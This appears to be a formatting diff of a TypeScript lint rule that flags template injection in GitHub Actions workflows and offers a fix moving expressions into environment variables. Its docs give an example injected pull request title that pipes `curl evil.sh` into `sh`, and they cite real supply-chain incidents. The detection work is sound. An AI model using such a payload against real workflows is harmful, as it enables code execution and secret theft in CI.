@@ -21,7 +21,10 @@ interface Sink {
 }
 
 function stepShell(scope: Scope, step: StepView): string {
-  const own = step.shell?.value ?? scope.job?.child('defaults').child('run').string('shell')?.value ?? scope.file.workflow?.child('defaults').child('run').string('shell')?.value;
+  const own =
+    step.shell?.value ??
+    scope.job?.child('defaults').child('run').string('shell')?.value ??
+    scope.file.workflow?.child('defaults').child('run').string('shell')?.value;
   if (own) return own.trim().split(/\s+/)[0].toLowerCase();
   const runsOn = scalarText(scope.job?.runsOn?.value ?? null) ?? '';
   return /windows/i.test(runsOn) ? 'pwsh' : 'bash';
@@ -49,7 +52,10 @@ function sinkOf(site: ExpressionSite, scope: Scope, base: number): Sink | null {
     const input = String(path[base + 1]);
     const entry = step.with.get(input);
     if (!entry) return null;
-    if (reference.kind === 'docker') return ['entrypoint', 'args'].includes(input.toLowerCase()) ? { kind: 'input', language: 'other', label: `\`${input}\` of a container step`, entry } : null;
+    if (reference.kind === 'docker')
+      return ['entrypoint', 'args'].includes(input.toLowerCase())
+        ? { kind: 'input', language: 'other', label: `\`${input}\` of a container step`, entry }
+        : null;
     if (reference.kind !== 'remote') return null;
     const sink = codeSinkFor(reference.owner, reference.repo, reference.subpath);
     if (!sink || !sink.inputs.includes(input.toLowerCase())) return null;
@@ -67,9 +73,9 @@ export const templateInjection: Rule = {
   persona: 'regular',
   online: false,
   docs: {
-    summary: 'A `${{ }}` expression whose value someone else chooses is pasted into a `run:` script or into an input that an action runs as code, before the shell or interpreter reads it.',
-    why:
-      'Expressions are substituted into the script text before it runs, so a pull request title such as `"; curl evil.sh | sh; #` becomes a command. Ultralytics (2024) put `github.head_ref` into a composite action\'s `run:` under `pull_request_target`; Grafana (2025) put a branch name into `actions/github-script`; Nx (2025) put a pull request title into a bash heredoc and lost its npm token; elementary-data (2026) expanded an `issue_comment` body.',
+    summary:
+      'A `${{ }}` expression whose value someone else chooses is pasted into a `run:` script or into an input that an action runs as code, before the shell or interpreter reads it.',
+    why: 'Expressions are substituted into the script text before it runs, so a pull request title such as `"; curl evil.sh | sh; #` becomes a command. Ultralytics (2024) put `github.head_ref` into a composite action\'s `run:` under `pull_request_target`; Grafana (2025) put a branch name into `actions/github-script`; Nx (2025) put a pull request title into a bash heredoc and lost its npm token; elementary-data (2026) expanded an `issue_comment` body.',
     fix: 'Pass the value through an environment variable: add `NAME: ${{ <expression> }}` to the step\'s `env:` and use `"$NAME"` (bash), `$env:NAME` (PowerShell), `%NAME%` (cmd) or `process.env.NAME` (github-script). The quick fix does this for single-context expressions.',
   },
   check({ file, report }) {
@@ -80,7 +86,8 @@ export const templateInjection: Rule = {
       // before its scope is looked up.
       const path = site.path;
       const base = stepKeysStart(path, kind);
-      if (base === -1 || (!(path.length === base + 1 && path[base] === 'run') && !(path.length === base + 2 && path[base] === 'with'))) continue;
+      if (base === -1 || (!(path.length === base + 1 && path[base] === 'run') && !(path.length === base + 2 && path[base] === 'with')))
+        continue;
       const scope = scopeOf(file, path);
       const sink = sinkOf(site, scope, base);
       if (!sink) continue;
@@ -93,7 +100,16 @@ export const templateInjection: Rule = {
         const canMove = single !== null && leaves.length === 1 && step !== null && step !== undefined;
         // The fix verifies itself by re-parsing the edited step: computed only when someone asks for it.
         const fixes = () => {
-          const fix = canMove ? moveToEnv(file, site, sink, sink.language ?? runLanguage(scope, step), step, normalizeContextPath(single.path) === normalizeContextPath(leaf.path) ? single.path : null) : null;
+          const fix = canMove
+            ? moveToEnv(
+                file,
+                site,
+                sink,
+                sink.language ?? runLanguage(scope, step),
+                step,
+                normalizeContextPath(single.path) === normalizeContextPath(leaf.path) ? single.path : null,
+              )
+            : null;
           return fix ? [fix] : [];
         };
         report({
@@ -143,7 +159,14 @@ function quoteState(line: string): 'none' | 'single' | 'double' | 'backtick' {
   return state;
 }
 
-function moveToEnv(file: ParsedFile, site: ExpressionSite, sink: Sink, language: SinkLanguage | 'bash' | 'cmd', step: StepView, path: string | null): Fix | null {
+function moveToEnv(
+  file: ParsedFile,
+  site: ExpressionSite,
+  sink: Sink,
+  language: SinkLanguage | 'bash' | 'cmd',
+  step: StepView,
+  path: string | null,
+): Fix | null {
   if (!path) return null;
   const text = file.text;
   const occurrence = site.occurrence;
@@ -169,9 +192,13 @@ function moveToEnv(file: ParsedFile, site: ExpressionSite, sink: Sink, language:
   switch (language) {
     case 'bash': {
       const script = scalarText(site.scalar as never) ?? '';
-      const inQuotedHeredoc = parseShell(script).commands.some((command) => command.heredocs.some((h) => h.quoted && h.body.includes(occurrence.text)));
+      const inQuotedHeredoc = parseShell(script).commands.some((command) =>
+        command.heredocs.some((h) => h.quoted && h.body.includes(occurrence.text)),
+      );
       if (inQuotedHeredoc) return null;
-      const inHeredoc = parseShell(script).commands.some((command) => command.heredocs.some((h) => h.body.includes(`\${{${occurrence.text}}}`)));
+      const inHeredoc = parseShell(script).commands.some((command) =>
+        command.heredocs.some((h) => h.body.includes(`\${{${occurrence.text}}}`)),
+      );
       if (scalarType === 'QUOTE_SINGLE' && state !== 'none') return null;
       replacement = inHeredoc || state === 'double' ? `\${${name}}` : state === 'single' ? `'"\${${name}}"'` : `"\${${name}}"`;
       break;
@@ -218,7 +245,9 @@ function moveToEnv(file: ParsedFile, site: ExpressionSite, sink: Sink, language:
   const stepRange = (step.node as Node | null)?.range;
   if (!stepRange || !editsKeepYamlValid(text, { start: stepRange[0], end: stepRange[1] }, edits)) return null;
   return {
-    title: runnerVar ? `Use the runner's \`${runnerVar}\` variable instead of expanding \`${path}\`` : `Move \`${path}\` into \`env: ${name}\``,
+    title: runnerVar
+      ? `Use the runner's \`${runnerVar}\` variable instead of expanding \`${path}\``
+      : `Move \`${path}\` into \`env: ${name}\``,
     isPreferred: sink.kind === 'run',
     safety: 'unsafe',
     edits,
@@ -260,7 +289,10 @@ function uniqueName(step: StepView, base: string, expressionText: string): strin
 function envInsertion(file: ParsedFile, step: StepView, name: string, expressionText: string): OffsetEdit | null {
   const lines = file.lines;
   const eol = lines.eol;
-  const value = expressionText.includes("'") || expressionText.includes('#') ? `"${expressionText.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"` : expressionText;
+  const value =
+    expressionText.includes("'") || expressionText.includes('#')
+      ? `"${expressionText.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`
+      : expressionText;
   const lineAfter = (offset: number): number | null => {
     const line = lines.lineAt(Math.max(0, offset - 1));
     return line + 1 < lines.lineCount ? lines.lineStarts[line + 1] : null;
@@ -277,7 +309,11 @@ function envInsertion(file: ParsedFile, step: StepView, name: string, expression
     const column = first.keySpan.start - lines.lineStarts[lines.lineAt(first.keySpan.start)];
     const at = lineAfter(Math.max(last.valueSpan.end, last.keySpan.end));
     const textLine = `${' '.repeat(column)}${name}: ${value}`;
-    if (at === null) return { span: { start: file.text.length, end: file.text.length }, newText: `${file.text.endsWith('\n') ? '' : eol}${textLine}${eol}` };
+    if (at === null)
+      return {
+        span: { start: file.text.length, end: file.text.length },
+        newText: `${file.text.endsWith('\n') ? '' : eol}${textLine}${eol}`,
+      };
     return { span: { start: at, end: at }, newText: `${textLine}${eol}` };
   }
   const entries = step.entries;
@@ -288,6 +324,7 @@ function envInsertion(file: ParsedFile, step: StepView, name: string, expression
   const pad = ' '.repeat(column);
   const block = `${pad}env:${eol}${pad}  ${name}: ${value}${eol}`;
   const at = lineAfter(Math.max(last.valueSpan.end, last.keySpan.end));
-  if (at === null) return { span: { start: file.text.length, end: file.text.length }, newText: `${file.text.endsWith('\n') ? '' : eol}${block}` };
+  if (at === null)
+    return { span: { start: file.text.length, end: file.text.length }, newText: `${file.text.endsWith('\n') ? '' : eol}${block}` };
   return { span: { start: at, end: at }, newText: block };
 }
